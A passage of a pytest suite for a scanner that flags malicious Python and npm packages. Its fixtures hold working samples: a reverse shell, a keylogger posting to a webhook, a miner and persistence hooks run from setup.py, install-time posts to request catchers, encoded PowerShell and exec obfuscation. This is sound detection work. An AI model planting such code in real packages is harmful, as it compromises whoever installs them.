    "args",
    ['"install", "."', '"install", "-e", "."'],
    ids=["install-dot", "install-editable-dot"],
)
def test_pip_install_runtime_benign_self_install(tmp_path: Path, scanner: Scanner, args: str) -> None:
    source = setup_py(
        f'subprocess.check_call([sys.executable, "-m", "pip", {args}])\n',
        imports="import subprocess\nimport sys\n",
    )
    assert_quiet(scan(write_sdist(tmp_path, setup_py=source), scanner), "pip-install-runtime")


HIDDEN_WINDOW_SETUP = setup_py(
    'subprocess.run(["powershell", "-NoProfile", "-Command", "Get-Date"],'
    " creationflags=subprocess.CREATE_NO_WINDOW)\n",
    imports="import subprocess\n",
)
QUIET_RUNNER_LIBRARY = """import subprocess


def run_quietly(script):
    flags = subprocess.CREATE_NO_WINDOW
    return subprocess.run(["powershell", "-NoProfile", "-File", script], creationflags=flags)
"""


def test_hidden_shell_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=HIDDEN_WINDOW_SETUP), scanner)
    assert_fires(result, "hidden-shell", Verdict.MALICIOUS, severity=Severity.HIGH, file_endswith="setup.py")


def test_hidden_shell_fires_for_encoded_powershell(tmp_path: Path, scanner: Scanner) -> None:
    # a script hidden in base64 at install time: critical on its own
    result = scan(write_sdist(tmp_path, setup_py=POWERSHELL_SETUP), scanner)
    assert_fires(result, "hidden-shell", Verdict.MALICIOUS, severity=Severity.CRITICAL)


@pytest.mark.parametrize(
    "argv",
    [
        f'["powershell", "-NoP", "-W", "Hidden", "-e", "{ENCODED_PS}"]',
        '["pwsh.exe", "-NonInteractive", "-enc", ENCODED]',
    ],
    ids=["abbreviated-flags", "constant-script"],
)
def test_hidden_shell_fires_for_encoded_powershell_argument_list(
    tmp_path: Path, scanner: Scanner, argv: str
) -> None:
    setup = setup_py(f"subprocess.Popen({argv})\n", imports=f'import subprocess\nENCODED = "{ENCODED_PS}"\n')
    result = scan(write_sdist(tmp_path, setup_py=setup), scanner)
    assert_fires(result, "hidden-shell", Verdict.MALICIOUS, severity=Severity.CRITICAL)


def test_hidden_shell_benign_plain_powershell_argument_list_at_install(
    tmp_path: Path, scanner: Scanner
) -> None:
    setup = setup_py(
        'subprocess.run(["powershell", "-NoProfile", "-Command", "Get-ChildItem", "-Recurse"])\n',
        imports="import subprocess\n",
    )
    result = scan(write_sdist(tmp_path, setup_py=setup), scanner)
    assert not hits(result, "hidden-shell"), describe(result)
    assert result.verdict is not Verdict.MALICIOUS, describe(result)


def test_hidden_shell_benign_called_only(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/win.py": QUIET_RUNNER_LIBRARY}), scanner)
    assert_quiet(result, "hidden-shell", below=Severity.HIGH)


CMDCLASS_SETUP = """from setuptools import setup
from setuptools.command.build_py import build_py


class BuildWithVersion(build_py):
    def run(self):
        build_py.run(self)


setup(name="fixturepkg", version="1.0.0", cmdclass={"build_py": BuildWithVersion})
"""


def test_setup_cmdclass_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=CMDCLASS_SETUP), scanner)
    assert_fires(result, "setup-cmdclass", Verdict.CLEAN, severity=Severity.INFO, file_endswith="setup.py")


def test_setup_cmdclass_benign_plain_setup(tmp_path: Path, scanner: Scanner) -> None:
    assert_quiet(scan(write_sdist(tmp_path), scanner), "setup-cmdclass")


# ---- shells, miners, persistence, spyware, evasion -----------------------------------------------
REVERSE_SHELL = """import os
import pty
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("127.0.0.1", 9))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")
"""
REDIRECT_LIBRARY = """import os


def redirect_stdout_to(path):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT)
    os.dup2(fd, 1)
    os.close(fd)
"""


def test_reverse_shell_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: REVERSE_SHELL}), scanner)
    assert_fires(result, "reverse-shell", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


def test_reverse_shell_benign_dup2(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/redirect.py": REDIRECT_LIBRARY}), scanner)
    assert_quiet(result, "reverse-shell")


MINER_SETUP = setup_py(
    'subprocess.Popen(["./xmrig", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "fixture"])\n',
    imports="import subprocess\n",
)
HASH_LIBRARY = '''import hashlib


def block_hash(data):
    """Hash a block the way a toy blockchain would."""
    return hashlib.sha256(data).hexdigest()
'''


def test_cryptominer_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=MINER_SETUP), scanner)
    assert_fires(
        result, "cryptominer", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
    )


def test_cryptominer_benign_hashing(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/chain.py": HASH_LIBRARY}), scanner)
    assert_quiet(result, "cryptominer")


CRONTAB_SETUP = setup_py(
    "os.system(\"(crontab -l; echo '@reboot /bin/true') | crontab -\")\n", imports="import os\n"
)
AUTOSTART_SETUP = setup_py(
    'path = os.path.expanduser("~/.config/autostart/fixturepkg.desktop")\n'
    'with open(path, "w") as handle:\n'
    '    handle.write("[Desktop Entry]\\nExec=/bin/true\\n")\n',
    imports="import os\n",
)
AUTOSTART_LIBRARY = '''import os


def enable_autostart():
    """Called from the app's settings dialog when the user ticks 'start at login'."""
    path = os.path.expanduser("~/.config/autostart/fixturepkg.desktop")
    with open(path, "w") as handle:
        handle.write("[Desktop Entry]\\nExec=fixturepkg-tray\\n")
'''


@pytest.mark.parametrize("source", [CRONTAB_SETUP, AUTOSTART_SETUP], ids=["crontab", "autostart"])
def test_persistence_fires(tmp_path: Path, scanner: Scanner, source: str) -> None:
    result = scan(write_sdist(tmp_path, setup_py=source), scanner)
    found = hits(result, "persistence")
    assert found and all(f.file.endswith("setup.py") for f in found), describe(result)
    assert max(f.severity.rank for f in found) >= Severity.HIGH.rank, describe(result)
    assert result.verdict.rank >= Verdict.SUSPICIOUS.rank, describe(result)


def test_persistence_benign_user_action(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/autostart.py": AUTOSTART_LIBRARY}), scanner)
    assert_quiet(result, "persistence", below=Severity.MEDIUM)


KEYLOGGER = """import requests
from pynput.keyboard import Listener

WEBHOOK = "https://discord.com/api/webhooks/000000/fixture-token"


def on_press(key):
    requests.post(WEBHOOK, data={"k": str(key)})


Listener(on_press=on_press).start()
"""
HOTKEY_LIBRARY = '''from pynput import keyboard


def listen(callback):
    """Register a hot-key handler for the user's own application."""
    with keyboard.Listener(on_press=callback) as listener:
        listener.join()
'''


def test_spyware_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: KEYLOGGER}), scanner)
    assert_fires(result, "spyware", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)


def test_spyware_benign_hotkeys(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/hotkeys.py": HOTKEY_LIBRARY}), scanner)
    assert_quiet(result, "spyware", below=Severity.MEDIUM)


ANTI_VM = """import os
import sys

BLACKLISTED_PROGRAMS = ["vmtoolsd.exe", "wireshark.exe", "x64dbg.exe"]
if any(name in os.popen("tasklist").read() for name in BLACKLISTED_PROGRAMS):
    sys.exit(0)
"""
DEBUG_HELPER = """import ctypes


def debugger_attached():
    return bool(ctypes.windll.kernel32.IsDebuggerPresent())
"""


def test_anti_analysis_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: ANTI_VM}), scanner)
    assert_fires(result, "anti-analysis", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith=INIT)


def test_anti_analysis_benign_called_only(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/debug.py": DEBUG_HELPER}), scanner)
    assert_quiet(result, "anti-analysis", below=Severity.HIGH)


# ---- endpoints -----------------------------------------------------------------------------------
CATCHER_SETUP = setup_py(
    'requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data={"v": "1"})\n',
    imports="import requests\n",
)
PASTE_LIBRARY = """import requests

PASTE_API = "https://pastebin.com/api/api_post.php"


def share(text, key):
    return requests.post(PASTE_API, data={"api_paste_code": text, "api_dev_key": key})
"""


def test_exfil_sink_fires(tmp_path: Path, scanner: Scanner) -> None:
    # Posting anything to a request catcher while pip installs is the report-back of a probe.
    result = scan(write_sdist(tmp_path, setup_py=CATCHER_SETUP), scanner)
    assert_fires(result, "exfil-sink", Verdict.MALICIOUS, severity=Severity.HIGH, file_endswith="setup.py")
    assert_fires(result, "secret-exfiltration", Verdict.MALICIOUS, severity=Severity.CRITICAL)


IPLOGGER_SETUP = setup_py(
    'urllib.request.urlopen("https://iplogger.org/1aBcD")\n', imports="import urllib.request\n"
)


def test_exfil_sink_fires_for_ip_logger_at_install(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=IPLOGGER_SETUP), scanner)
    assert_fires(result, "exfil-sink", Verdict.MALICIOUS, file_endswith="setup.py")


def test_exfil_sink_benign_library(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/share.py": PASTE_LIBRARY}), scanner)
    assert_quiet(result, "exfil-sink", below=Severity.HIGH)


def raw_ip_setup(host: str) -> str:
    return setup_py(f'urllib.request.urlopen("http://{host}:8080/ping")\n', imports="import urllib.request\n")


def test_raw_ip_url_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, setup_py=raw_ip_setup("192.0.2.1")), scanner)
    assert_fires(result, "raw-ip-url", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith="setup.py")


@pytest.mark.parametrize("host", ["127.0.0.1", "10.0.0.1", "192.168.1.1", "localhost"])
def test_raw_ip_url_benign_private(tmp_path: Path, scanner: Scanner, host: str) -> None:
    result = scan(write_sdist(tmp_path, setup_py=raw_ip_setup(host)), scanner)
    assert_quiet(result, "raw-ip-url")


def test_raw_ip_url_benign_private_in_npm_script(tmp_path: Path, scanner: Scanner) -> None:
    path = write_npm(tmp_path, scripts={"postinstall": "node-gyp rebuild --dist-url=http://127.0.0.1:9/"})
    assert not hits(scan(path, scanner), "raw-ip-url")


# ---- obfuscation ---------------------------------------------------------------------------------
PYARMOR = """from .pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00')
"""
PYARMOR_BUILD_HELPER = '''import subprocess


def protect(source_dir):
    """Run the PyArmor command line on the user's own sources, when the user asks for it."""
    return subprocess.run(["pyarmor", "gen", "--output", "dist", source_dir], check=True)
'''
HYPERION = 'a, b = exec, str\na(b("x = 1"))\n'
TUPLE_RENAME_BENIGN = """lo, hi = min, max


def clamp(value, low, high):
    return lo(hi(value, low), high)
"""


def test_obfuscation_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: PYARMOR}), scanner)
    assert_fires(result, "obfuscation", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith=INIT)


def test_obfuscation_benign_build_helper(tmp_path: Path, scanner: Scanner) -> None:
    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/protect.py": PYARMOR_BUILD_HELPER})
    assert_quiet(scan(path, scanner), "obfuscation")


def test_obfuscated_exec_fires_in_setup(tmp_path: Path, scanner: Scanner) -> None:
    source = setup_py(HYPERION)
    result = scan(write_sdist(tmp_path, setup_py=source), scanner)
    assert_fires(
        result, "obfuscated-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
    )


@pytest.mark.parametrize(
    "source",
    [HYPERION, "# https://github.com/billythegoat356/Hyperion\n" + HYPERION],
    ids=["bare", "with-banner"],
)
def test_obfuscated_exec_fires_at_import(tmp_path: Path, scanner: Scanner, source: str) -> None:
    result = scan(write_wheel(tmp_path, {INIT: source}), scanner)
    assert_fires(result, "obfuscated-exec", Verdict.MALICIOUS, file_endswith=INIT)


BANNER_OVER_PLAIN_CODE = """# Obfuscators sold for hiding stealers (BlankOBF, Hyperion...) wrap code in exec.
# See https://github.com/billythegoat356/Hyperion for what their output looks like.
MARKERS = ("pyarmor_runtime", "Specter")


def looks_obfuscated(text):
    return any(marker in text for marker in MARKERS)
"""


def test_obfuscation_benign_obfuscator_named_in_a_comment(tmp_path: Path, scanner: Scanner) -> None:
    """A comment naming obfuscators over plain code (a scanner's notes) is words, not obfuscation;
    the same banner over dynamic code still convicts it (test_obfuscated_exec_fires_at_import)."""
    result = scan(write_wheel(tmp_path, {INIT: BANNER_OVER_PLAIN_CODE}), scanner)
    assert_quiet(result, "obfuscation", below=Severity.MEDIUM)
    assert hits(result, "obfuscation"), describe(result)  # still reported, as low


def test_obfuscated_exec_benign_tuple_rename(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: TUPLE_RENAME_BENIGN}), scanner)
    assert_quiet(result, "obfuscated-exec")
    assert not hits(result, "obfuscation")


EXEC_VERSION_SETUP = setup_py(
    'namespace = {}\nexec(open("fixturepkg/version.py").read(), namespace)\nassert namespace["__version__"]\n'
)
IMPORT_HOOK = 'import os\n\nexec(os.environ.get("FIXTURE_HOOK", "pass"))\n'
SAFE_EVAL_LIBRARY = """def evaluate(expression):
    return eval(expression, {"__builtins__": {}})
"""


def test_dynamic_exec_fires(tmp_path: Path, scanner: Scanner) -> None:
    path = write_sdist(
        tmp_path, {f"{DEFAULT_NAME}/version.py": '__version__ = "1.0.0"\n'}, setup_py=EXEC_VERSION_SETUP
    )
    result = scan(path, scanner)
    assert_fires(result, "dynamic-exec", Verdict.CLEAN, severity=Severity.MEDIUM, file_endswith="setup.py")


def test_dynamic_exec_fires_at_import(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {INIT: IMPORT_HOOK}), scanner)
    assert_fires(result, "dynamic-exec", Verdict.CLEAN, severity=Severity.LOW, file_endswith=INIT)


def test_dynamic_exec_benign_called_only(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/calc.py": SAFE_EVAL_LIBRARY}), scanner)
    assert_quiet(result, "dynamic-exec")


# ---- binaries ------------------------------------------------------------------------------------
def test_embedded_executable_fires(tmp_path: Path, scanner: Scanner) -> None:
    member = f"{DEFAULT_NAME}/bin/helper.exe"
    result = scan(write_sdist(tmp_path, {member: SAMPLE_PE}), scanner)
    found = assert_fires(result, "embedded-executable", Verdict.CLEAN, severity=Severity.MEDIUM)
    assert [f.file for f in found] == [PREFIX + member]


def test_embedded_executable_fires_under_any_name(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/data/blob.dat": SAMPLE_PE}), scanner)
    assert_fires(result, "embedded-executable", Verdict.CLEAN, file_endswith="blob.dat")


def test_embedded_executable_launched_at_install(tmp_path: Path, scanner: Scanner) -> None:
    member = f"{DEFAULT_NAME}/bin/helper.exe"
    source = setup_py(f'subprocess.Popen(["{member}"])\n', imports="import subprocess\n")
    result = scan(write_sdist(tmp_path, {member: SAMPLE_PE}, setup_py=source), scanner)
    assert_fires(result, "embedded-executable", Verdict.SUSPICIOUS, severity=Severity.HIGH)


def test_embedded_executable_benign(tmp_path: Path, scanner: Scanner) -> None:
    text_mz = b"MZ is how this data file happens to start; it is not a program." + bytes(64)
    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/data/notes.dat": text_mz}), scanner)
    assert_quiet(result, "embedded-executable")
    platform_wheel = write_wheel(
        tmp_path,
        {f"{DEFAULT_NAME}/helper.exe": SAMPLE_PE},
        filename=f"{DEFAULT_NAME}-1.0.0-py3-none-win_amd64.whl",
    )
    assert_quiet(scan(platform_wheel, scanner), "embedded-executable")


SAMPLE_ELF = b"\x7fELF\x02\x01\x01" + bytes(57) + b"compiled module body"
EXTENSION = f"{DEFAULT_NAME}/_core.cpython-310-x86_64-linux-gnu.so"


def test_compiled_module_imported_at_import_from_a_pure_wheel_fires(tmp_path: Path, scanner: Scanner) -> None:
    # a wheel tagged for every platform whose package imports a compiled module for one of them at
    # import: the module's native initialisation (a Cython module's whole body) runs unreviewed
    init = "from ._core import _initialize\n_initialize()\n"
    files = {EXTENSION: SAMPLE_ELF, f"{DEFAULT_NAME}/__init__.py": init}
    result = scan(write_wheel(tmp_path, files), scanner)
    found = assert_fires(result, "embedded-executable", Verdict.SUSPICIOUS, severity=Severity.HIGH)
    assert found[0].file.endswith(".so") and "imports the compiled module" in found[0].reason
    # an sdist that ships one prebuilt promises less (vendored engines): reported, not decisive
    sdist = scan(write_sdist(tmp_path, {EXTENSION: SAMPLE_ELF, f"{DEFAULT_NAME}/__init__.py": init}), scanner)
    assert_fires(sdist, "embedded-executable", Verdict.CLEAN, severity=Severity.MEDIUM)
    # the same under an sdist's src/ layout folder, and in one whose `src/` is the package itself
    # (setup.py maps it to the real name; its modules import each other relatively)
    for files in (
        {f"src/{EXTENSION}": SAMPLE_ELF, f"src/{DEFAULT_NAME}/__init__.py": init},
        {"src/_core.cpython-310-x86_64-linux-gnu.so": SAMPLE_ELF, "src/__init__.py": "from . import _core\n"},
    ):
        found = assert_fires(
            scan(write_sdist(tmp_path, files), scanner),
            "embedded-executable",
            Verdict.CLEAN,
            severity=Severity.MEDIUM,
        )
        assert "imports the compiled module" in found[0].reason, found


def test_compiled_module_benign(tmp_path: Path, scanner: Scanner) -> None:
    init = "from ._core import _initialize\n_initialize()\n"
    platform_wheel = write_wheel(
        tmp_path,
        {EXTENSION: SAMPLE_ELF, f"{DEFAULT_NAME}/__init__.py": init},
        filename=f"{DEFAULT_NAME}-1.0.0-cp310-cp310-manylinux_2_17_x86_64.whl",
    )
    assert_quiet(scan(platform_wheel, scanner), "embedded-executable")  # that is what platform wheels are
    # a pure wheel that loads its optional accelerator only when asked (debuggers, profilers)
    lazy = "def speedups():\n    from ._core import _initialize\n    return _initialize\n"
    result = scan(
        write_wheel(tmp_path, {EXTENSION: SAMPLE_ELF, f"{DEFAULT_NAME}/__init__.py": lazy}), scanner
    )
    assert [f.severity for f in hits(result, "embedded-executable")] == [Severity.LOW], describe(result)
    assert result.verdict is Verdict.CLEAN
    # inside a nested archive (a test fixture's layer zip): installers never unpack it
    layer = wheel_bytes({EXTENSION: SAMPLE_ELF, f"{DEFAULT_NAME}/__init__.py": init})
    nested = scan(write_sdist(tmp_path, {"tests/resources/layer.zip": layer}), scanner)
    assert all(f.severity.rank <= Severity.LOW.rank for f in hits(nested, "embedded-executable")), describe(
        nested
    )


# ---- metadata ------------------------------------------------------------------------------------
def test_typosquat_fires(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, name="reqeusts"), scanner)
    found = assert_fires(result, "typosquat", Verdict.CLEAN, severity=Severity.MEDIUM)
    assert "requests" in found[0].reason


def test_typosquat_with_risky_behaviour_is_malicious(tmp_path: Path, scanner: Scanner) -> None:
    result = scan(write_sdist(tmp_path, name="reqeusts", setup_py=LOCAL_FETCH_SETUP), scanner)
    assert_fires(result, "typosquat", Verdict.MALICIOUS)


@pytest.mark.parametrize("name", ["requests", "numpy", DEFAULT_NAME])
def test_typosquat_benign_popular_or_unrelated(tmp_path: Path, scanner: Scanner, name: str) -> None:
    assert_quiet(scan(write_sdist(tmp_path, name=name), scanner), "typosquat")


@pytest.mark.parametrize("version", ["99.0.0", "9999.1", "999", "1337.0.0", "40000.1", "9.9.9"])
def test_placeholder_version_fires(tmp_path: Path, scanner: Scanner, version: str) -> None:
    # A metadata signal: suspicious on its own, never malicious without a code finding.
    result = scan(write_sdist(tmp_path, version=version), scanner)
    found = assert_fires(result, "placeholder-version", Verdict.SUSPICIOUS)
    assert found[0].snippet == version


@pytest.mark.parametrize(
    "version", ["312", "2024.1", "1.0.0", "0.0.1", "20231228", "202406.1", "9.9", "9.9.10"]
)
def test_placeholder_version_benign(tmp_path: Path, scanner: Scanner, version: str) -> None:
    assert_quiet(scan(write_sdist(tmp_path, version=version), scanner), "placeholder-version")


@pytest.mark.parametrize("kind", ["sdist", "wheel"])
def test_metadata_missing_fires(tmp_path: Path, scanner: Scanner, kind: str) -> None:
    if kind == "sdist":
        path = write_sdist(tmp_path, with_pkg_info=False)
    else:
        path = write_wheel(tmp_path, with_metadata=False)
    assert_fires(scan(path, scanner), "metadata-missing", Verdict.CLEAN, severity=Severity.LOW)


def test_metadata_missing_fires_on_mismatch(tmp_path: Path, scanner: Scanner) -> None:
    path = write_wheel(tmp_path, name="otherpkg", filename=f"{DEFAULT_NAME}-1.0.0-py3-none-any.whl")
    assert_fires(scan(path, scanner), "metadata-missing", Verdict.CLEAN)


def test_metadata_missing_benign(tmp_path: Path, scanner: Scanner) -> None:
    for path in (write_sdist(tmp_path), write_wheel(tmp_path), write_npm(tmp_path)):
        assert_quiet(scan(path, scanner), "metadata-missing")


# ---- archive structure ---------------------------------------------------------------------------
def _tar_member(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = 0o644
    return info, data


@pytest.mark.parametrize(
    ("member", "kind"),
    [("../escape.py", "path-traversal"), ("/etc/fixturepkg.conf", "absolute-path")],
)
def test_archive_unsafe_path_fires(tmp_path: Path, scanner: Scanner, member: str, kind: str) -> None:
    path = write_sdist(tmp_path, extra_tar_entries=[_tar_member(member, b"VALUE = 1\n")])
    found = assert_fires(
        scan(path, scanner), "archive-unsafe-path", Verdict.SUSPICIOUS, severity=Severity.HIGH
    )
    assert any(f.file == member and kind in f.reason for f in found)


def test_archive_rules_benign(tmp_path: Path, scanner: Scanner) -> None:
    """A well-formed archive with a small nested fixture zip raises no archive finding."""
    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/data/fixtures.zip": nested_zip(2, {"x.txt": "x\n"})})
    result = scan(path, scanner)
    archive_rules = {r for r in RULES if r.startswith("archive-")}
    assert not [f for f in result.findings if f.rule in archive_rules], describe(result)
    assert result.verdict is Verdict.CLEAN


@pytest.mark.parametrize("kind", ["tar-symlink", "tar-hardlink", "zip-symlink"])
def test_archive_link_fires(tmp_path: Path, scanner: Scanner, kind: str) -> None:
    link = f"{DEFAULT_NAME}/link.py"
    if kind == "tar-symlink":
        path = write_sdist(
            tmp_path, extra_tar_entries=[tar_special(PREFIX + link, tarfile.SYMTYPE, "/etc/passwd")]
        )
        shown = PREFIX + link
    elif kind == "tar-hardlink":
        entry = tar_special(PREFIX + link, tarfile.LNKTYPE, PREFIX + "setup.py")
        path = write_sdist(tmp_path, extra_tar_entries=[entry])
        shown = PREFIX + link
    else:
        infos = [(zipfile.ZipInfo(k), v) for k, v in wheel_entries().items()]
        infos.append(zip_symlink(link, "/etc/passwd"))
        path = tmp_path / f"{DEFAULT_NAME}-1.0.0-py3-none-any.whl"
        path.write_bytes(make_zip_infos(infos))
        shown = link
    found = assert_fires(scan(path, scanner), "archive-link", Verdict.CLEAN, severity=Severity.MEDIUM)
    assert [f.file for f in found] == [shown]


@pytest.mark.parametrize(
    "kind", [tarfile.FIFOTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE], ids=["fifo", "chr", "blk"]
)
def test_archive_special_file_fires(tmp_path: Path, scanner: Scanner, kind: bytes) -> None:
    path = write_sdist(tmp_path, extra_tar_entries=[tar_special(PREFIX + "fixturepkg/dev", kind)])
    found = assert_fires(
        scan(path, scanner), "archive-special-file", Verdict.SUSPICIOUS, severity=Severity.HIGH
    )
    assert [f.file for f in found] == [PREFIX + "fixturepkg/dev"]


def test_archive_bomb_fires(tmp_path: Path, scanner: Scanner) -> None:
    data = zip_with_zeros(f"{DEFAULT_NAME}/bomb.py", 65 * MiB, others=list(wheel_entries().items()))
    path = tmp_path / f"{DEFAULT_NAME}-1.0.0-py3-none-any.whl"
    path.write_bytes(data)
    found = assert_fires(scan(path, scanner), "archive-bomb", Verdict.MALICIOUS, severity=Severity.CRITICAL)
    assert [f.file for f in found] == [f"{DEFAULT_NAME}/bomb.py"]
    assert [f.limit for f in found] == [LimitKind.COMPRESSION_RATIO]


def test_archive_confusion_fires(scanner: Scanner) -> None:
    # The local header of the package's __init__.py names __main__.py: zip readers disagree.
    data = rename_local_header(make_zip(wheel_entries().items()), INIT, f"{DEFAULT_NAME}/__main__.py")
    result = scanner.scan_artifact(read_artifact_bytes(data, WHEEL_NAME, selector=scan_selector))
    found = assert_fires(result, "archive-confusion", Verdict.SUSPICIOUS, severity=Severity.HIGH)
    assert [f.file for f in found] == [INIT]


def test_scan_incomplete_fires(scanner: Scanner) -> None:
    big = "VALUE = 1\n" * 200 + INERT_CODE + "\n"
    data = make_zip(wheel_entries({f"{DEFAULT_NAME}/big.py": big}).items())
    limits = Limits(max_member_bytes=1024)
    result = scanner.scan_artifact(
        read_artifact_bytes(data, WHEEL_NAME, limits=limits, selector=scan_selector)
    )
    found = assert_fires(result, "scan-incomplete", Verdict.SUSPICIOUS, severity=Severity.HIGH)
    assert [(f.file, f.limit) for f in found] == [(f"{DEFAULT_NAME}/big.py", LimitKind.MEMBER_BYTES)]


def test_scan_timeout_fires() -> None:
    data = make_zip(wheel_entries({f"{DEFAULT_NAME}/gen.py": "from os import " * (1024 * 1024)}).items())
    artifact = read_artifact_bytes(data, WHEEL_NAME, selector=scan_selector)
    result = Scanner(timeout=0.5).scan_artifact(artifact)
    found = assert_fires(result, "scan-timeout", Verdict.ERROR, severity=Severity.HIGH)
    assert [f.limit for f in found] == [LimitKind.SCAN_TIME]
    assert result.error is not None


def test_archive_limit_fires(tmp_path: Path, scanner: Scanner) -> None:
    member = f"{DEFAULT_NAME}/data/fixtures.zip"
    path = write_sdist(tmp_path, {member: nested_zip(4, {"deep.py": "VALUE = 1\n"})})
    found = assert_fires(scan(path, scanner), "archive-limit", Verdict.CLEAN, severity=Severity.LOW)
    assert all(f.file.startswith(PREFIX + member + "!/") for f in found)
    assert "nesting-too-deep" in found[0].reason


@pytest.mark.parametrize("kind", ["nested-archive-error", "undecodable-name"])
def test_archive_unreadable_fires(tmp_path: Path, scanner: Scanner, kind: str) -> None:
    if kind == "nested-archive-error":
        broken = b"PK\x03\x04" + b"\x00not really a zip" * 20
        path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/data/broken.zip": broken})
    else:
        name = PREFIX + f"{DEFAULT_NAME}/caf\udce9.py"  # a Latin-1 byte that is not valid UTF-8
        path = write_sdist(tmp_path, extra_tar_entries=[_tar_member(name, b"VALUE = 1\n")])
    found = assert_fires(scan(path, scanner), "archive-unreadable", Verdict.CLEAN)
    assert [f.reason.split(":")[0] for f in found] == [kind]


# ---- user rules ----------------------------------------------------------------------------------
MARKER_MODULE = 'LABEL = "CUSTODY-FIXTURE-MARKER"\n'


def _rule_dir(tmp_path: Path, meta: str) -> str:
    directory = tmp_path / "rules"
    directory.mkdir()
    (directory / "fixture.yar").write_text(
        "rule fixture_marker {\n"
        f"  meta: {meta}\n"
        '  strings: $a = "CUSTODY-FIXTURE-MARKER"\n'
        "  condition: $a\n"
        "}\n",
        encoding="utf-8",
    )
    return str(directory)


def test_user_rule_fires(tmp_path: Path) -> None:
    rules = _rule_dir(tmp_path, 'description = "fixture marker string"')
    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/marked.py": MARKER_MODULE})
    result = scan(path, Scanner(rule_dirs=(rules,)))
    found = assert_fires(result, "user-rule", Verdict.SUSPICIOUS, severity=Severity.HIGH)
    assert found[0].file == PREFIX + f"{DEFAULT_NAME}/marked.py"
    assert found[0].line == 1
    assert "fixture_marker" in found[0].reason and "fixture marker string" in found[0].reason


def test_user_rule_severity_meta(tmp_path: Path) -> None:
    rules = _rule_dir(tmp_path, 'description = "fixture marker string" severity = "medium"')
    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/marked.py": MARKER_MODULE})
    assert_fires(
        scan(path, Scanner(rule_dirs=(rules,))), "user-rule", Verdict.CLEAN, severity=Severity.MEDIUM
    )


def test_user_rule_benign(tmp_path: Path, scanner: Scanner) -> None:
    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/marked.py": MARKER_MODULE})
    assert_quiet(scan(path, scanner), "user-rule")  # rule not loaded: no finding
    rules = _rule_dir(tmp_path, 'description = "fixture marker string"')
    assert_quiet(scan(write_wheel(tmp_path), Scanner(rule_dirs=(rules,))), "user-rule")  # no marker


def test_user_rule_with_cap_feeds_the_engine(tmp_path: Path) -> None:
    rules = _rule_dir(tmp_path, 'cap = "exfil-sink" detail = "fixture collector"')
    source = setup_py('print("CUSTODY-FIXTURE-MARKER")\n')
    result = scan(write_sdist(tmp_path, setup_py=source), Scanner(rule_dirs=(rules,)))
    assert not hits(result, "user-rule"), describe(result)
    assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH)


# ---- catalogue coverage --------------------------------------------------------------------------
def test_exfil_flow_fires_in_called_code(tmp_path: Path, scanner: Scanner) -> None:
    """A helper that posts the private key it is given to a bare IP: malicious although only called."""
    code = (
        "import requests\n\n"
        "def transfer(private_key, to):\n"
        "    body = {'to': to, 'k': private_key}\n"
        "    requests.post('http://192.0.2.8:8000/tx', json=body)\n"
    )
